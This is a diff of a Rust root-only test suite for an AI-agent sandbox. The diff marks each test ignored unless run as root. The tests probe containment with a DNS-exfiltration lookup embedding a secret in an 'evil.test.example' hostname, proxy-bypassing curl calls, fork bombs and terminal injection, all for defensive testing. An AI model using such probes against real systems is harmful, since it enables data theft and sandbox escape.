@@ -4,7 +4,7 @@
 //! target (an upstream that records requests, a test host in a network namespace of the
 //! test's own, a service on the host's loopback).
 //!
-//! Privileged: every test needs root and skips otherwise. Targets are loopback or test
+//! Privileged: every test needs root (`#[ignore = "needs root"]`, run with --include-ignored). Targets are loopback or test
 //! hosts in network namespaces the test creates (10.203.N.2, fd00:203:N::2, wired into
 //! the run's fresh netns while the agent waits on its stdin); everything created is
 //! removed on drop, also when a test fails (gvmd leaves the `gvm-<profile>` user, and a
@@ -196,8 +196,9 @@ fn start_with_upstreams(sb: &mut Sandboxed) -> (Upstream, Upstream) {
 }
 
 #[test]
+#[ignore = "needs root"]
 fn proxy_aware_http_and_https_are_decided_and_audited() {
-    require_root!();
+    assert_root();
     let mut sb = Sandboxed::new("px");
     let (up, tls) = start_with_upstreams(&mut sb);
     let (p, t) = (up.port(), tls.port());
@@ -260,8 +261,9 @@ fn proxy_aware_http_and_https_are_decided_and_audited() {
 // ---------------------------------------------------------------------------------------
 
 #[test]
+#[ignore = "needs root"]
 fn proxy_unaware_clients_go_through_the_transparent_gateway() {
-    require_root!();
+    assert_root();
     let mut sb = Sandboxed::new("tp");
     let (up, tls) = start_with_upstreams(&mut sb);
     let (p, t) = (up.port(), tls.port());
@@ -339,8 +341,9 @@ fn with_test_host(tag: &str, n: u8, body: &str) -> (Sandboxed, Upstream, TestHos
 }
 
 #[test]
+#[ignore = "needs root"]
 fn direct_tcp_and_ipv6_to_a_test_host_never_arrive() {
-    require_root!();
+    assert_root();
     let (v4, v6) = TestHost::addrs(31);
     let body = format!(
         r#"
@@ -395,8 +398,9 @@ probe("curl_v6", lambda: curl("--noproxy", "*", "--max-time", "3", "http://[{v6}
 }
 
 #[test]
+#[ignore = "needs root"]
 fn udp_raw_sockets_and_dns_egress_are_contained() {
-    require_root!();
+    assert_root();
     let (v4, _) = TestHost::addrs(32);
     let secret = format!("s3cr3t-{}.evil.test.example", std::process::id());
     let body = format!(
@@ -463,8 +467,9 @@ probe("getaddrinfo", lambda: socket.getaddrinfo("{secret}", 443))
 // ---------------------------------------------------------------------------------------
 
 #[test]
+#[ignore = "needs root"]
 fn host_loopback_services_are_unreachable_by_ip() {
-    require_root!();
+    assert_root();
     let mut sb = Sandboxed::new("lo");
     let svc = LoopbackService::start();
     // Even a profile that allows every host: the gateway's SSRF check refuses loopback.
@@ -523,8 +528,9 @@ probe("lo_noname", raw)
 // ---------------------------------------------------------------------------------------
 
 #[test]
+#[ignore = "needs root"]
 fn the_control_socket_is_out_of_the_agents_reach() {
-    require_root!();
+    assert_root();
     let mut sb = Sandboxed::outside_tmp("ctl");
     let up = Upstream::start(None);
     let profile = profile_toml(&sb, up.port(), None, "");
@@ -569,8 +575,9 @@ probe("abstract", lambda: unix("\0gvmd"))
 // ---------------------------------------------------------------------------------------
 
 #[test]
+#[ignore = "needs root"]
 fn secrets_are_out_of_the_agents_reach() {
-    require_root!();
+    assert_root();
     let mut sb = Sandboxed::outside_tmp("sec");
     let up = Upstream::start(None);
     let pid = std::process::id();
@@ -640,8 +647,9 @@ fn secrets_are_out_of_the_agents_reach() {
 /// masked by name, and the state and runtime dirs are masked wherever they are — the
 /// config dir must be too (`gvmd --config-dir DIR` is documented in the README).
 #[test]
+#[ignore = "needs root"]
 fn a_custom_config_dir_is_hidden_like_etc_gvm() {
-    require_root!();
+    assert_root();
     let mut sb = Sandboxed::outside_tmp("cfg");
     let up = Upstream::start(None);
     let profile = profile_toml(&sb, up.port(), None, "");
@@ -665,8 +673,9 @@ fn a_custom_config_dir_is_hidden_like_etc_gvm() {
 // ---------------------------------------------------------------------------------------
 
 #[test]
+#[ignore = "needs root"]
 fn workspace_writes_land_in_the_upper_dir_only() {
-    require_root!();
+    assert_root();
     let mut sb = Sandboxed::new("ovl");
     let up = Upstream::start(None);
     std::fs::write(sb.ws.join("code.py"), "original\n").unwrap();
@@ -692,8 +701,9 @@ fn workspace_writes_land_in_the_upper_dir_only() {
 }
 
 #[test]
+#[ignore = "needs root"]
 fn a_run_that_changes_nothing_reports_no_changed_files() {
-    require_root!();
+    assert_root();
     let mut sb = Sandboxed::new("cnt");
     let up = Upstream::start(None);
     let profile = profile_toml(&sb, up.port(), None, "");
@@ -716,8 +726,9 @@ fn a_run_that_changes_nothing_reports_no_changed_files() {
 }
 
 #[test]
+#[ignore = "needs root"]
 fn sigkill_of_the_agent_mid_write_keeps_the_work() {
-    require_root!();
+    assert_root();
     let mut sb = Sandboxed::new("kill");
     let up = Upstream::start(None);
     let profile = profile_toml(&sb, up.port(), None, "");
@@ -780,8 +791,9 @@ fn sigkill_of_the_agent_mid_write_keeps_the_work() {
 // ---------------------------------------------------------------------------------------
 
 #[test]
+#[ignore = "needs root"]
 fn a_fork_bomb_is_stopped_by_tasks_max_and_gvmd_stays_healthy() {
-    require_root!();
+    assert_root();
     let mut sb = Sandboxed::new("bomb");
     let up = Upstream::start(None);
     let profile = profile_toml(&sb, up.port(), None, "tasks_max = 32\nmemory_max = \"512M\"");
@@ -821,8 +833,9 @@ fn a_fork_bomb_is_stopped_by_tasks_max_and_gvmd_stays_healthy() {
 }
 
 #[test]
+#[ignore = "needs root"]
 fn a_memory_balloon_is_stopped_by_memory_max() {
-    require_root!();
+    assert_root();
     let mut sb = Sandboxed::new("mem");
     let up = Upstream::start(None);
     let profile = profile_toml(&sb, up.port(), None, "memory_max = \"64M\"");
@@ -839,8 +852,9 @@ fn a_memory_balloon_is_stopped_by_memory_max() {
 }
 
 #[test]
+#[ignore = "needs root"]
 fn no_agent_process_outlives_its_run() {
-    require_root!();
+    assert_root();
     let mut sb = Sandboxed::new("bg");
     let up = Upstream::start(None);
     let profile = profile_toml(&sb, up.port(), None, "");
@@ -862,8 +876,9 @@ fn no_agent_process_outlives_its_run() {
 /// `gvmctl run` hands the agent the caller's terminal: the agent must not be able to
 /// type into it (TIOCSTI, bubblewrap CVE-2017-5226) nor make it its controlling tty.
 #[test]
+#[ignore = "needs root"]
 fn the_callers_terminal_cannot_be_typed_into() {
-    require_root!();
+    assert_root();
     let mut sb = Sandboxed::new("tty");
     let up = Upstream::start(None);
     let profile = profile_toml(&sb, up.port(), None, "");
@@ -893,8 +908,9 @@ fn the_callers_terminal_cannot_be_typed_into() {
 // ---------------------------------------------------------------------------------------
 
 #[test]
+#[ignore = "needs root"]
 fn exit_status_and_summary_counts_are_exact() {
-    require_root!();
+    assert_root();
     let mut sb = Sandboxed::new("exit");
     let up = Upstream::start(None);
     let profile = profile_toml(&sb, up.port(), None, "");
@@ -951,8 +967,9 @@ fn useradd(args: &[&str]) {
 }
 
 #[test]
+#[ignore = "needs root"]
 fn admin_group_members_may_run_and_others_are_refused() {
-    require_root!();
+    assert_root();
     let mut sb = Sandboxed::new("adm");
     let pid = std::process::id();
     let (group, member, outsider) = (format!("gvmt-{pid}"), format!("gvmt-{pid}-m"), format!("gvmt-{pid}-o"));
@@ -995,8 +1012,9 @@ fn admin_group_members_may_run_and_others_are_refused() {
 /// gvmd's own: 16384 under gvmd.service) and starves every other profile and the
 /// control socket.
 #[test]
+#[ignore = "needs root"]
 fn stalled_clients_are_cut_off_by_the_gateway() {
-    require_root!();
+    assert_root();
     let mut sb = Sandboxed::new("slow");
     let up = Upstream::start(None);
     let profile = profile_toml(&sb, up.port(), None, "");
